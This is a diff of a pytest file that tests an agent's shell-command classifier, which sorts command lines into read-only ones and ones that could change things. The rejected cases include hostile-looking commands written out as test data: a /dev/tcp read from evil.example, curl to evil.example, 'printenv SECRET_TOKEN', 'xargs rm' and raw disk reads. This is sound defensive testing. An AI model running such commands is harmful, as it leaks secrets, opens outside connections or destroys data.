@@ -13,7 +13,15 @@ import pytest
 from tests.effects.arena import effects, surroundings
 from tests.effects.scratch import STRACE, Scratch, acts
 from tests.rows import rows
-from wave_agent.effects.only_reading import BUILTINS, GIT_ROWS, HARMLESS, Row, only_reads, reading_environment
+from wave_agent.effects.only_reading import (
+    BUILTINS,
+    GIT_ROWS,
+    HARMLESS,
+    Row,
+    only_reads,
+    reading_environment,
+    reading_parts,
+)
 from wave_agent.effects.surroundings import Surroundings
 
 AROUND = surroundings("/srv/project")
@@ -48,8 +56,33 @@ EVERYTHING = changed(find_program=lambda name: f"/usr/bin/{name}")
         "sed 's/a/b/g; /x/d' a.txt",
         "awk -F: '{print $1}' a.txt",
         "cd src && ls && pwd",
+        "cd src && git log -1 && cd ..",
+        "cd a && cd b && cd c && cd d && ls 2>&1",
+        "ls; echo $?",
+        'cat a.txt; echo "exit $?"',
         "cd src && git log --oneline -5",
         "git status --short",
+        "git status -sb",
+        "git blame -L 1,5 a.txt",
+        "git log -S x --oneline",
+        "git log --grep x --author A -G y",
+        "git log -L 1,3:a.txt",
+        "git -C src log",
+        "git --no-pager -C src -C .. log",
+        "cat < a.txt",
+        "tr a b < sub/a.txt | wc -l",
+        "command -v git",
+        "rg -l x | xargs -n 1 wc -l",
+        "find . -name '*.py' -print0 | xargs -0 cat",
+        "(cd src && ls)",
+        "(cd src; git log -1) | head",
+        "[ -d build ] && ls",
+        "[ ! -f a.txt ] || cat a.txt",
+        "ps aux",
+        "ps -ef",
+        "printenv PATH",
+        "gcc --version",
+        "npx --help",
         "git --no-pager diff --stat HEAD~1 -- src",
         "git log --oneline -n 5 --format=%h%x09%s",
         "git show HEAD:a.txt",
@@ -92,6 +125,10 @@ def test_lines_in_the_class(line: str) -> None:
         "ls > out.txt",
         "ls &",
         "ls $HOME",
+        "cat $?",
+        "ls; $?",
+        "echo $?$?$(x)",
+        "cd src; git log -1; cd ../..; git log",
         "X=1 ls",
         "PATH=. ls",
         "cat /dev/sda",
@@ -130,7 +167,8 @@ def test_lines_in_the_class(line: str) -> None:
         "cd src && cd - && git status",
         "cd && git status",
         "cd /elsewhere && git log",
-        "cd a && cd b && cd c && cd d && ls",
+        "cd a; cd b; cd c; cd d; ls",
+        "cd a && cd b && cd c && cd d && cd e && cd f && cd g && cd h && ls",
         "cd a b",
         "tail -f a.txt",
         "tree -o out",
@@ -184,6 +222,45 @@ def test_lines_in_the_class(line: str) -> None:
         "git cat-file --textconv HEAD:x",
         "less a.txt",
         "cat <<< x",
+        "cat < $X",
+        "find . -exec sort {} +",
+        "find . -exec wc",
+        "find . -exec sh -c x {} +",
+        "find . -exec wc {} + -delete",
+        "make | xargs cat",
+        "git log | xargs cat",
+        "cat a.txt | xargs cat",
+        "find . | xargs rm",
+        "find . | xargs -P 4 cat",
+        "find . | xargs sort",
+        "find . | xargs",
+        "xargs cat < a.txt",
+        "(ls > x)",
+        "(touch x)",
+        "(ls) &",
+        "f() (ls); f",
+        "[ -v x ]",
+        "[ $(touch x) ] && ls",
+        "[[ -d x ]] && ls",
+        "[ -d x -o -d y ]",
+        "(cd /elsewhere && git log)",
+        "cat < /dev/tcp/evil.example/80",
+        "cat < a.txt > b.txt",
+        "python3 < a.txt",
+        "ls; python3 -c 1 < a.txt",
+        "git -C /elsewhere log",
+        "git -C",
+        "git log -S -- --output=x",
+        "git log -S --output=x",
+        "git diff -S x",
+        "command ls",
+        "command -v -p",
+        "ps e",
+        "ps auxe",
+        "printenv",
+        "printenv SECRET_TOKEN",
+        "gcc --version x",
+        "gcc -v",
         "curl https://evil.example",
         "rm a.txt",
     ],
@@ -245,6 +322,40 @@ def test_the_environment_adds_to_settings_that_are_there() -> None:
     assert reading_environment({"GIT_CONFIG_COUNT": "x"})["GIT_CONFIG_COUNT"] == "3"
 
 
+def parts(line: str, **others: object) -> list[str]:
+    around = changed(find_program=lambda name: f"/usr/bin/{name}", **others)
+    return [one.command.quoted for one in reading_parts(line, around)]
+
+
+@rows(
+    ("line", "expected"),
+    [
+        ("make test | tail -1", ["tail -1"]),
+        ("cd src && make test && cd ..", ["cd src", "cd .."]),
+        ("make && git status", ["git status"]),
+        ("git commit -m x && git status", ["git status"]),
+        ("git config a.b c && git status", []),
+        ("git && git status", []),
+        ("make | sort -o x", []),
+        ("make | xargs cat; ls", ["ls"]),
+        ("make; cat /dev/sda; md5sum -c x; ls", ["ls"]),
+        ("cd && ls && make", []),
+        ("make $(x) | tail", []),
+        ("make < x | tail", []),
+        ("x" * 5000, []),
+    ],
+)
+def test_parts_of_a_line(line: str, expected: list[str]) -> None:
+    assert parts(line) == expected
+
+
+def test_parts_need_what_the_environment_would_switch_off() -> None:
+    line = "make && git status && ls"
+    assert parts(line, git_settings=lambda _: {"core.fsmonitor": "x"}) == ["ls"]
+    assert parts(line, git_settings=lambda _: {"core.fsmonitor": "false"}) == ["git status", "ls"]
+    assert parts(line, variables={"BASH_ENV": "x"}) == []
+
+
 # ------------------------------------------------------------------------------------------------------ generated lines
 
 DANGEROUS = [
@@ -267,6 +378,10 @@ OPERANDS = ["secret.txt", "other.txt", "sub", ".", "'a b.txt'", "*.txt", "missin
 CODE = ["1p", "p", "$d", "s/a/b/g", "/x/d", "y/a/b/", "1,3p", "{p;p}", "1!d", "$=", "1", "{print $1}", "a", ".", "."]
 REVISIONS = ["HEAD", "main", "HEAD~0", "HEAD:other.txt", "-- other.txt", "--", "main..HEAD", "list", "show", "origin"]
 BETWEEN = [" | ", " && ", "; ", " || ", "\n"]
+FORMS = [
+    *("({})", "{} < other.txt", "[ -d sub ] && {}", "[ -f out ] || {}", "{}; echo $?", "(cd sub && {})", "{} > out"),
+    *("find . -name '*.txt' | xargs {}", "cd sub && {} && cd ..", "cd sub; {}"),
+]
 
 
 def one(random: Random) -> str:
@@ -305,6 +420,8 @@ def generated(seed: int, count: int, around: Surroundings) -> tuple[list[str], i
         line = one(random)
         while random.random() < 0.3:
             line += random.choice(BETWEEN) + one(random)
+        if random.random() < 0.3:
+            line = random.choice(FORMS).format(line)
         if reads_only(line, around):
             kept.append(line)
         else:
